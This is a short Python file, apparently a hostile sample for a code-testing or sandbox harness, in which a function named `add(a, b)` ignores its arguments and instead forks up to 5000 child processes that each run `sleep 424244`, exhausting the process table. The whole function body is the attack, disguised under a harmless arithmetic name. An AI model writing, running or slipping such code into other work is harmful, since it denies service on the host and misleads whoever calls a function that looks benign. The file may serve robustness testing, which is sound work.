"""Forks until it cannot, every child living on as `sleep 424244`; returns how many it started."""
import os

from correct import check_positive, echo  # noqa: F401


def add(a, b):
    started = 0
    try:
        while started < 5000:
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "424244"])
            started += 1
    except OSError:
        pass
    return started
